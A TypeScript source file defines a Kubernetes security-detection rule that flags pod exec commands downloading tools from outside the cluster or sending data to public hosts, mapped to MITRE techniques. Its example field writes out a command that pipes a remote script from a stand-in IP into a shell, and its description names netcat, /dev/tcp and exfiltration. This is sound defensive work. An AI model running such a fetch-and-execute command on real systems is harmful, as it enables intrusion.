import { networkOf } from '../../addresses.ts';
import { isProgram } from '../../kubernetes/principals.ts';
import { quote } from '../../text.ts';
import { callRule } from '../call-rule.ts';
import type { InCommand } from '../command.ts';
import { downloadIn } from '../download.ts';
import { EXECS, seenInCommand } from '../exec.ts';

/**
 * Lower for a download that is only shown, which a person reads: attackers keep or run what they fetch. Also for what a
 * program fetches from a named host: builds fetch releases in steps that their runner executes.
 */
const LESSER = { severity: 'medium', confidence: 0.4 } as const;

/** A command, run in a container through the API, that fetches something from outside. */
export const execDownload = callRule({
  id: 'exec-download',
  title: 'Download into a pod',
  sees: 'An exec whose command fetches something with curl, wget, a similar program or the library of a scripting language from outside of the cluster and keeps or runs it (high), or only prints it (medium 0.40; also what the account of a program fetches from a named host); or that sends a file, or what another command gives it, to a bare public address (high) or to a named host (medium 0.40). Programs that copy files, such as scp, rsync and tftp, and programs that only connect, such as netcat, count where the address is bare and public; so does a shell that asks for a page over /dev/tcp by hand. Addresses of the host itself, of Services and of private networks do not count, nor do health or key pages that are only printed.',
  why: 'An image already contains what its program needs. Tools downloaded later usually belong to somebody else.',
  technique: [
    { id: 'T1105', name: 'Ingress Tool Transfer' },
    { id: 'T1609', name: 'Container Administration Command' },
    { id: 'T1048', name: 'Exfiltration Over Alternative Protocol' },
  ],
  severity: 'high',
  confidence: 0.65,
  family: 'exec',
  falsePositives: ['Debugging tools fetched by an operator', 'Tests of egress from a cluster'],
  calls: EXECS,
  example: "kubectl exec -n shop cart-7d9f -- sh -c 'curl -s http://203.0.113.9/x.sh | sh'",
  match: (signal) => seenInCommand(signal, (line) => fetchedBy(line, isProgram(signal)), LESSER),
});

const fetchedBy = (line: string, byProgram: boolean): InCommand | undefined => {
  const download = downloadIn(line);
  if (download === undefined) return undefined;
  const { host, kept, sends } = download;
  const bare = networkOf(host) === 'public';
  if (sends && !kept) return { what: `sends something to ${quote(host, 253)}`, certain: bare };
  const does = kept ? 'fetches something to keep or run' : 'fetches and prints something';
  return { what: `${does} from ${quote(host, 253)}`, certain: kept && (!byProgram || bare) };
};
